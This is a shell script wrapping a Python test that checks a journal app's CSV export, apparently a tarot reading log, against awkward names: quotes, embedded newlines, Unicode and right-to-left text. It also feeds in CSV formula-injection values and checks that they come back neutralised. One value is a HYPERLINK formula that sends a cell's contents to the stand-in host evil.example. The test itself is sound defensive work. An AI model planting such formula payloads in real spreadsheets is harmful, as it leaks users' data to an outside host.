#!/bin/sh
# Hostile names survive the journal and its CSV export, as Python's csv module reads it; those
# a spreadsheet would take for formulas come back as text.
# Usage: journal_csv_test.sh path/to/journal_csv_sample
set -eu
sample=$1
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

python3 - "$sample" "$work" <<'PY'
import csv, json, subprocess, sys
sample, work = sys.argv[1], sys.argv[2]
names = [
    'Ana "la" Ruiz, hija',
    "line one\nline two\r\nline three",
    "José Ñandú",
    "🌙✨ Luna 👩🏽‍🔬",
    "مريم العربية",
    "שרה",
    '",,"',
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&B1,"click me")',
    "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "a=1",
    "   spaced   ",
]
# What a spreadsheet would run as a formula is kept as text by a leading apostrophe.
shown = ["'" + n if n[:1] in "=+-@\t\r" else n for n in names]
with open(f"{work}/names.json", "w", encoding="utf-8") as f:
    json.dump(names, f, ensure_ascii=False)
subprocess.run([sample, f"{work}/names.json", f"{work}/out.csv"], check=True)
raw = open(f"{work}/out.csv", "rb").read()
assert not raw.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
with open(f"{work}/out.csv", newline="", encoding="utf-8") as f:
    rows = list(csv.reader(f, strict=True))
assert rows[0] == ["date", "name", "birth_date", "spread", "mode", "cards", "notes"], rows[0]
body = rows[1:]
assert [r[1] for r in body] == list(reversed(shown)), [r[1] for r in body]
for r in body:
    assert len(r) == 7 and r[6] == "", r
    assert r[0] == "2026-03-14T21:05:09+01:00", r[0]
    assert r[2] == "1990-02-31" and r[3] == "Gypsy Spread" and r[4] == "manual", r
    assert len(r[5].split(" | ")) == 21, r[5]
print("ok:", len(body), "hostile names read back")
PY
